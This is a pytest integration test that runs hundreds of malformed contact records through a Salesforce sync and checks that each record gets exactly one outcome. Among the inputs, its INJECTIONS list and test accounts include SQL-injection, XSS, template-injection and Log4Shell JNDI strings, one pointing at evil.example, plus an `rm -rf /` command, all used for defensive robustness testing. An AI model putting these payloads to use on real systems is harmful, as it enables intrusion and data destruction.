"""Hundreds of bad inputs through one real sync (emulator, RQ, the database): emails of every broken
kind, phones from 30 countries in many formats, unicode (RTL, combining characters, emoji),
10,000-character fields, nulls in every mapped path (parent paths too), and SOQL / HTML / script
injection strings in names.

Nothing crashes: the run ends ``succeeded``; every record has exactly one outcome, and every record
that is not imported carries one non-empty reason. Each record's expected outcome (and, when
imported, the stored email, phone and names) is written next to it.
"""
from __future__ import annotations

import pytest
from sqlalchemy import select

from core.extensions import db
from models import Participant, RunOutcome, SyncRun
from services import runs
from tests.integration.sync_support import (drain, fresh, make_connection, make_plan, make_workspace, org, put,
                                            rconn, stamp)

pytestmark = [pytest.mark.redis]
__all__ = ["org", "rconn"]

MAPPING = {
    "fields": {"first_name": ["FirstName"], "last_name": ["LastName"], "email": ["Email"],
               "phone": ["Phone", "MobilePhone"], "company": ["Account.Name"], "external_id": ["Id"]},
    "country": ["MailingCountry"],
    "attributes": [{"name": "Tier", "path": "Account.Customer_Tier__c"}, {"name": "Notes", "path": "Description"}],
    "consent_rule": {"path": "Consent_Status__c", "opted_in": ["Granted"], "opted_out": ["Withdrawn"],
                     "opt_out_flags": ["HasOptedOutOfEmail"]},
}
LONG = "x" * 10_000
NO_CONTACT = "No valid email or phone number."

# --- emails: the C12 kinds and more. (value, stored email when valid, else None) -----------------
BAD_EMAILS = [
    "victim+test\u037eattacker@example.com", "sam.lee@example.com.", "Sam Lee <sam.lee@example.com>",
    "ana@example.org;ben@example.org", "https://www.example.com/", "ana@example.org, ben@example.org",
    "mailto:ana@example.org", "plainaddress", "@example.org", "ana@", "ana@@example.org", "ana@exa mple.org",
    "ana@example..org", ".ana@example.org", "ana.@example.org", "ana..lee@example.org", "ana@-example.org",
    "ana@example-.org", "ana@example", "ana@localhost", "ana@[127.0.0.1]", "ana@127.0.0.1", "ana\n@example.org",
    "ana@example.org\x00", "ana@" + "d" * 64 + ".org", "ana@example.org" + "g" * 300,
    "ana@exa_mple.org", "ana(comment)@example.org", "\"ana lee\"@example.org", "ana@example.org>",
    "<ana@example.org>", "ana@😀.org", "user@example.com@example.org",
    "\u202eana@example.org", "ana\u200b@example.org", LONG + "@example.org", "ana@" + LONG + ".org",
    "' OR '1'='1@example.org", "<script>@example.org",
]
GOOD_EMAILS = [  # (as Salesforce holds it, as stored)
    ("kim.park@example.co.uk", "kim.park@example.co.uk"),
    ("  Padded.Case@Example.ORG  ", "Padded.Case@example.org"),
    ("o'brien@example.ie", "o'brien@example.ie"),
    ("first+tag@example.com", "first+tag@example.com"),
    ("josé@example.es", "josé@example.es"),
    ("用户@例子.广告", "用户@例子.广告"),
    ("иван@пример.рф", "иван@пример.рф"),
    ("x@example.museum", "x@example.museum"),
    ("😀@example.org", "😀@example.org"),  # an internationalised local part is valid (SMTPUTF8)
    ("ana@example.c", "ana@example.c"),  # syntax only: no deliverability check
    ("a" * 65 + "@example.org", "a" * 65 + "@example.org"),  # email-validator leaves the 64 limit to servers
    ("a.b-c_d@sub.example.co.jp", "a.b-c_d@sub.example.co.jp"),
]

# --- phones: 30 countries, four formats each (a different valid number per format), no email ------
REGIONS = ["GB", "US", "DE", "FR", "IT", "ES", "NL", "BE", "CH", "AT", "SE", "NO", "DK", "FI", "IE", "PT", "PL",
           "CZ", "IN", "JP", "CN", "KR", "AU", "NZ", "BR", "MX", "ZA", "NG", "IL", "AE"]


def phone_inputs() -> list[tuple[str, str, str, str]]:
    """(region, format name, raw as typed, expected E.164). The numbers are phonenumbers' example
    mobiles with the last digit varied, written out in each format."""
    import phonenumbers
    from phonenumbers import PhoneNumberFormat as F
    out = []
    for region in REGIONS:
        base = phonenumbers.example_number_for_type(region, phonenumbers.PhoneNumberType.MOBILE)
        numbers = []
        for digit in "0123456789":
            candidate = phonenumbers.PhoneNumber(
                country_code=base.country_code, national_number=int(str(base.national_number)[:-1] + digit),
                italian_leading_zero=base.italian_leading_zero)
            if phonenumbers.is_valid_number(candidate):
                numbers.append(candidate)
        assert len(numbers) >= 4, region
        for number, (name, fmt) in zip(numbers, [("E.164", F.E164), ("international", F.INTERNATIONAL),
                                                 ("national", F.NATIONAL), ("RFC3966", F.RFC3966)]):
            out.append((region, name, phonenumbers.format_number(number, fmt),
                        phonenumbers.format_number(number, F.E164)))
    return out


BAD_PHONES = ["12", "+1", "phone", "000000000000000000000", "+44 20 7946 00000000", "☎ 555", "+99 123 456 789",
              LONG, "0" * 300, "+1 (201) 555-0123 ext. " + "9" * 40, "+44 7400 123456; +44 7400 654321"]

UNICODE_NAMES = [
    ("مريم", "الحسيني"), ("שרה", "כהן"), ("Zoë", "Ångström"), ("Zoe\u0308", "A\u030angstro\u0308m"),
    ("😀", "🎉👩‍👩‍👧"), ("Ṯ̸̢̛̗ḛ̶̢̗s̸̡̛t", "Z̵̧̛a̸̢lg̷o̵"), ("\u202eevil", "name\u202c"), ("Ⅻ", "ﬀ"),
    ("\u200b", "\ufeff"), ("田中", "太郎"), ("Nguyễn", "Văn A"), ("Ελένη", "Παπαδοπούλου"), ("Σίσυφος", "ΣΊΣΥΦΟΣ"),
    ("İpek", "ıșık"), ("ß", "STRASSE"), ("𝔘𝔫𝔦", "𝔠𝔬𝔡𝔢"), ("a\u0000b", "c\u0007d"), ("tab\there", "new\nline"),
]
INJECTIONS = [
    "'; DROP TABLE participants; --", "' OR '1'='1", "\\' OR Name != null --", "Robert'); DELETE FROM Contact;--",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%27%20OR%201=1", "javascript:alert(1)", "<!--", "]]>",
    "' AND Email LIKE '%", "\\", "%", "_", "'", "\"", "`rm -rf /`",
]


def expected_records() -> list[tuple[dict, dict]]:
    """(Salesforce fields, expectation) for every record. Expectation keys: outcome, email, phone,
    first_name, last_name, company."""
    out: list[tuple[dict, dict]] = []
    n = iter(range(1, 10_000))

    def fresh_email() -> str:
        return f"ok{next(n):04d}@example.org"

    for value in BAD_EMAILS:  # no phone: nothing to reach them by
        out.append(({"LastName": "BadEmail", "Email": value}, {"outcome": "skipped", "reason_end": NO_CONTACT}))
    for i, value in enumerate(BAD_EMAILS[:20]):  # a bad email, a good phone: reached by phone, email not kept
        out.append(({"LastName": "BadEmailGoodPhone", "Email": value, "Phone": f"+1 201-555-{i:04d}",
                     "MailingCountry": "US"}, {"outcome": "imported", "email": None, "phone": f"+1201555{i:04d}"}))
    for raw, stored in GOOD_EMAILS:
        out.append(({"LastName": "GoodEmail", "Email": raw}, {"outcome": "imported", "email": stored}))
    # The same address in NFD (decomposed) is the same person: one participant, the second a duplicate.
    out.append(({"LastName": "GoodEmailNFD", "Email": "JOSE\u0301@example.es"},
                {"outcome": "unchanged", "duplicate_of": "josé@example.es"}))
    for region, _name, raw, e164 in phone_inputs():
        out.append(({"LastName": f"Phone{region}", "Phone": raw, "MailingCountry": region},
                    {"outcome": "imported", "phone": e164}))
    for raw in BAD_PHONES:
        out.append(({"LastName": "BadPhone", "Phone": raw, "MailingCountry": "GB"},
                    {"outcome": "skipped", "reason_end": NO_CONTACT}))
    for first, last in UNICODE_NAMES:  # kept as Salesforce holds them; a NUL becomes U+FFFD
        email = fresh_email()
        out.append(({"FirstName": first, "LastName": last, "Email": email},
                    {"outcome": "imported", "email": email, "first_name": first.replace("\x00", "\ufffd"),
                     "last_name": last}))
    for text in INJECTIONS:
        email = fresh_email()
        out.append(({"FirstName": text, "LastName": text, "Email": email, "Description": text},
                    {"outcome": "imported", "email": email, "first_name": text, "last_name": text}))
    # 10,000-character fields.
    # 10,000-character fields: names and company keep their first 255 characters.
    for field, expect in (("FirstName", {"first_name": "x" * 255}), ("LastName", {"last_name": "x" * 255}),
                          ("Description", {}), ("MailingCountry", {}), ("Consent_Status__c", {})):
        email = fresh_email()
        out.append(({"FirstName": "Long", field: LONG, "Email": email},
                    {"outcome": "imported", "email": email, **expect}))
    for account, company in (("@long", "x" * 255), ("@injected", "<script>alert('co')</script>"),
                             ("@null name", None)):
        email = fresh_email()
        out.append(({"LastName": "Company", "AccountId": account, "Email": email},
                    {"outcome": "imported", "email": email, "company": company}))
    # Phone is used when it holds anything; MobilePhone only when Phone is empty.
    out.append(({"LastName": "LongPhone", "Phone": LONG, "MobilePhone": "+44 7400 123457"},
                {"outcome": "skipped", "reason_end": NO_CONTACT}))
    out.append(({"LastName": "EmptyPhone", "Phone": "", "MobilePhone": "+44 7400 123458"},
                {"outcome": "imported", "phone": "+447400123458"}))
    # Nulls in every mapped path, parent paths included.
    for field in ("FirstName", "LastName", "Phone", "MobilePhone", "MailingCountry", "AccountId", "Description",
                  "Consent_Status__c", "HasOptedOutOfEmail"):
        email = fresh_email()
        out.append(({"LastName": "Nulls", field: None, "Email": email}, {"outcome": "imported", "email": email}))
    out.append(({"LastName": "AllNull", "FirstName": None, "Email": None, "Phone": None, "MobilePhone": None,
                 "MailingCountry": None, "AccountId": None}, {"outcome": "skipped", "reason_end": NO_CONTACT}))
    out.append(({"LastName": None, "FirstName": None, "Email": fresh_email()}, {"outcome": "imported"}))
    return out


def load(server) -> tuple[list[str], list[dict]]:
    """Accounts (a named one, one with a null Name, a long and an injected one) and the records."""
    accounts = {
        "named": put(server, "Account", {"Name": "Acme <b>Ltd</b>", "Customer_Tier__c": "Enterprise"}),
        "null name": put(server, "Account", {"Name": None, "Customer_Tier__c": None}),
        "long": put(server, "Account", {"Name": LONG, "Customer_Tier__c": LONG}),
        "injected": put(server, "Account", {"Name": "<script>alert('co')</script>", "Customer_Tier__c": "' OR 1=1"}),
    }
    ids, expectations = [], []
    keys = list(accounts)
    for i, (fields, expect) in enumerate(expected_records()):
        fields = {"Consent_Status__c": "Granted", **fields}
        fields.setdefault("AccountId", accounts[keys[i % len(keys)]])
        if str(fields["AccountId"]).startswith("@"):
            fields["AccountId"] = accounts[fields["AccountId"][1:]]
        fields["SystemModstamp"] = stamp(i)
        ids.append(put(server, "Contact", fields))
        expectations.append({**expect, "fields": fields})
    return ids, expectations


def test_hundreds_of_bad_inputs_end_in_one_outcome_each_and_a_succeeded_run(app, rconn, org):
    ids, expectations = load(org)
    assert len(ids) >= 200
    workspace = make_workspace(region=None)
    plan = make_plan(workspace, make_connection(org, workspace), mapping=MAPPING)
    run = runs.request_run(plan)
    drain(app, rconn)
    run = fresh(SyncRun, run.id)
    rows = db.session.execute(select(RunOutcome).where(RunOutcome.run_id == run.id)
                              .order_by(RunOutcome.seq)).scalars().all()
    by_id = {}
    for row in rows:
        assert row.record_id not in by_id, f"two outcomes for {row.record_id}"
        by_id[row.record_id] = row
    assert (run.status, run.fetched, len(rows), sorted(by_id)) == ("succeeded", len(ids), len(ids), sorted(ids)), \
        run.reason
    wrong = []
    for record_id, expect in zip(ids, expectations):
        row = by_id[record_id]
        label = f"{record_id} {expect['fields']!r:.120}"
        if row.outcome != expect["outcome"]:
            wrong.append(f"{label}: {row.outcome} ({row.reason}), expected {expect['outcome']}")
            continue
        if row.outcome != "imported":
            if not row.reason or not row.reason.strip():
                wrong.append(f"{label}: {row.outcome} without a reason")
            elif "reason_end" in expect and not row.reason.endswith(expect["reason_end"]):
                wrong.append(f"{label}: reason {row.reason!r}")
            elif "duplicate_of" in expect:
                first = next(i for i, e in zip(ids, expectations) if e["fields"].get("Email") == expect["duplicate_of"])
                if not row.reason.startswith(f"Duplicate within the set (same email as {first}); merged"):
                    wrong.append(f"{label}: reason {row.reason!r}")
            continue
        person = db.session.get(Participant, row.participant_id)
        for key in ("email", "phone", "first_name", "last_name", "company"):
            if key in expect:
                got = person.phone_e164 if key == "phone" else getattr(person, key)
                if got != expect[key]:
                    wrong.append(f"{label}: {key} {got!r}, expected {expect[key]!r}")
    assert not wrong, f"{len(wrong)} records:\n" + "\n".join(wrong)
    counts = (run.imported, run.updated, run.unchanged, run.skipped, run.failed, run.excluded)
    assert sum(counts) == run.fetched
    assert run.failed == 0 and run.reason is None
